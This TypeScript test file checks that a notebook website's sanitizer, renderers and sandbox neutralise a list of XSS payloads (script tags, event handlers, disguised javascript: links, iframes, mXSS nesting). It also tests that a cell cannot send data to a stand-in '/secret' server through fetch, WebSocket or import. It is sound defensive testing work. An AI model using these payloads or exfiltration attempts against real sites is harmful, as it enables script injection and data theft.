/** @file A cell, a notebook or an edit that wants to run script on the page, where the reader's other tabs and pages are: none can. */

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { knobsType } from "../../site/pages/knobs.js";
import { prose } from "../../site/pages/markdown.js";
import { renderOutputs } from "../../site/pages/outputs.js";
import { sanitized } from "../../site/pages/sanitize.js";
import { launch, open } from "./browser.js";
import { browserProgram } from "./program.js";

/** Each would set the page's title to "run", if it ran. */
const attacks = {
  "a script": "<script>document.title = 'run'</script>",
  "a handler of an image": "<img src=x onerror=\"document.title = 'run'\">",
  "a handler of a figure": '<svg onload="document.title = \'run\'"><script>document.title = "run"</script></svg>',
  "a link": '<a href="javascript:document.title=\'run\'" id="attack">click</a>',
  "a link in disguise": '<a href=" java&#10;script:document.title=\'run\'" id="attack">click</a>',
  "a frame": "<iframe srcdoc=\"<script>parent.document.title = 'run'</script>\"></iframe>",
  "a form": '<form action="javascript:document.title=\'run\'"><button id="attack">click</button></form>',
  "a handler that opens": "<details open ontoggle=\"document.title = 'run'\"><summary>s</summary></details>",
  "an object": '<object data="data:text/html,<script>opener.document.title=1</script>"></object>',
  "a tag in a formula": "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title = 'run'\">",
  "a refresh": '<meta http-equiv="refresh" content="0;url=javascript:document.title=\'run\'">',
  "a style": "<style>@import 'javascript:document.title=1'; * { display: none }</style>",
};
const harmful = /<(?:script|iframe|object|embed|form|svg|style|meta|base|link|math)\b|\son\w+=|javascript:/i;

describe.each(Object.entries(attacks))("%s", (_, html) => {
  test("does not come through the sieve", () => {
    expect(sanitized(html)).not.toMatch(harmful);
  });

  test("does not come through prose, whether as HTML, in a heading, or in a link's text", () => {
    for (const text of [html, `## ${html}`, `[${html}](#a)`, `text ${html}`])
      expect(prose(text).html).not.toMatch(/<(?:script|iframe|object|form|style|meta)\b|<[^>]*\son\w+=|href="\s*java/i);
  });

  test("is text where text is shown", () => {
    const error = { output_type: "error" as const, ename: html, evalue: html, traceback: [html] };
    const stream = { output_type: "stream" as const, name: "stdout" as const, text: html };
    const plain = { output_type: "display_data" as const, data: { "text/plain": html }, metadata: {} };
    expect(renderOutputs([error, stream, plain]).replace(/<\/?(?:div|p|b|pre)\b[^<>]*>/g, "")).not.toMatch(/<\w/);
    const colored = { ...stream, text: `\x1b[31m${html}\x1b[0m` };
    const rendered = renderOutputs([colored]);
    expect(rendered).toContain('<span class="ansi-red">');
    expect(rendered.replace(/<\/?(?:div|pre|span)\b[^<>]*>/g, "")).not.toMatch(/<\w/);
  });
});

describe.each(Object.entries(attacks))("%s, as a knob's name or value", (_, html) => {
  const show = (content: unknown) =>
    renderOutputs([
      { output_type: "display_data", data: { "image/svg+xml": "<svg/>", [knobsType]: content }, metadata: {} },
    ]);

  test("is text in an attribute", () => {
    const rendered = show({ knobs: [{ kind: "choice", name: html, of: [html], at: html }] });
    expect(rendered).toContain("data-knobs=");
    expect(rendered.replace(/"[^"]*"/g, '""')).not.toMatch(harmful);
  });

  test("is no knob where another kind of value belongs", () => {
    const values = [
      { kind: html, at: 1 },
      { kind: "slider", of: [html], at: html },
      { kind: "sketch", rows: 1, columns: 1, at: html },
    ];
    for (const knob of values) expect(show({ knobs: [{ name: "a", ...knob }] })).not.toContain("data-knobs");
  });
});

test("a formula runs nothing and leads nowhere", () => {
  const html = prose("$\\href{javascript:alert(1)}{x}$ $$\\style{x:y}{<img src=x onerror=alert(1)>}$$").html;
  expect(html).not.toMatch(/href="javascript|<img|<[^>]* onerror/);
});

describe.runIf(browserProgram())("on the page", () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    browser = await launch();
    page = await open(browser, "01-linear-algebra.html");
  });
  afterAll(() => browser?.close());

  const show = (data: Record<string, string>) =>
    page.evaluate(async (bundle) => {
      const cell = globalThis.page.cells[0];
      // What a cell sends is whatever it wants.
      cell.edit(`const bundle = ${JSON.stringify(bundle)}; ({ [Symbol.for("Jupyter.display")]: () => bundle })`);
      await globalThis.page.run(cell);
      await new Promise((resolve) => setTimeout(resolve, 300));
      document.getElementById("attack")?.click();
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { title: document.title, state: cell.state };
    }, data);

  test.each(Object.entries(attacks))("%s runs neither as HTML nor as a figure", async (_, html) => {
    const { title } = await page.evaluate(() => ({ title: document.title }));
    const forms: Record<string, string>[] = [
      { "text/html": html },
      { "image/svg+xml": html },
      { "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">"'>${html}</svg>` },
    ];
    for (const data of forms) {
      expect(await show({ ...data, "text/plain": "x" })).toEqual({ title, state: "done" });
    }
  });

  test.each(Object.entries(attacks))("%s runs in no frame of a figure that moves", async (_, html) => {
    const frames = {
      "rate = 0": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>${html}</title>${html}</svg>`,
      "rate = 1": html,
    };
    // A service worker would fetch the frames past the route.
    const other = await open(browser, "every-knob.html", { serviceWorkers: "block" });
    await other.route("**/film-*.gz", (route) => route.fulfill({ body: gzipSync(JSON.stringify(frames)) }));
    const title = await other.title();
    const slider = other.getByRole("slider", { name: "rate" });
    for (const key of ["End", "Home"]) {
      await slider.press(key);
      await expect
        .poll(async () =>
          decodeURIComponent((await other.locator("figure img").first().getAttribute("src")) ?? "").replaceAll(
            "'",
            '"',
          ),
        )
        .toContain((key === "Home" ? frames["rate = 0"] : html).replaceAll("'", '"'));
    }
    await other.waitForTimeout(100);
    expect(await other.title()).toBe(title);
    await other.context().close();
  });

  test("even HTML that no sieve has seen runs nothing: the policy refuses it", async () => {
    const { title } = await page.evaluate(() => ({ title: document.title }));
    const after = await page.evaluate(
      async (all) => {
        const box = document.createElement("div");
        box.innerHTML = all;
        document.body.append(box);
        const script = document.createElement("script");
        script.textContent = "document.title = 'run'";
        document.body.append(script);
        await new Promise((resolve) => setTimeout(resolve, 300));
        const { title: now } = document;
        box.remove();
        return now;
      },
      attacks["a handler of an image"] + attacks["a handler of a figure"] + attacks["a handler that opens"],
    );
    expect(after).toBe(title);
  });

  test("a cell sends nothing to another site", async () => {
    const heard: string[] = [];
    const elsewhere = createServer(({ url }, response) => {
      heard.push(String(url));
      response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/secret`;
    const own = await open(browser, "counting-company.html");
    await own.waitForFunction(() => navigator.serviceWorker.controller);
    const said = await own.evaluate(async (url) => {
      const [cell] = globalThis.page.cells;
      cell.edit(`const all: any = globalThis;
        const attempts: (() => unknown)[] = [
          () => fetch("${url}/fetch"),
          () => Object.getPrototypeOf(Object.getPrototypeOf(all)).fetch("${url}/prototype"),
          () => new all.XMLHttpRequest().open("GET", "${url}/request"),
          () => new all.WebSocket("${url}/socket"),
          () => (0, eval)('import("${url}/import")'),
          () => new Function('return import("${url}/function")')(),
        ];
        for (const attempt of attempts) try { await attempt(); console.log("sent"); } catch (error) { console.log("refused"); }
        console.log((await fetch("../counting-company.ipynb")).ok);`);
      await globalThis.page.run(cell);
      return cell.outputsElement.textContent;
    }, address);
    elsewhere.close();
    expect(heard).toEqual([]);
    expect(said).toBe(`${"refused\n".repeat(6)}true\n`);
  });

  test("a cell reaches no page, and nothing that the page keeps or will load", async () => {
    const answer = await page.evaluate(() =>
      globalThis.page.kernel.ask({
        type: "evaluate",
        expressions: [
          "document",
          "window",
          "localStorage",
          "caches",
          "indexedDB",
          "Worker",
          "importScripts",
          "BroadcastChannel",
          "XMLHttpRequest",
          "WebSocket",
          "EventSource",
        ].map((name) => `typeof (globalThis as any).${name}`),
      }),
    );
    expect(answer?.values).toEqual(Array(11).fill({ text: "undefined" }));
  });
});
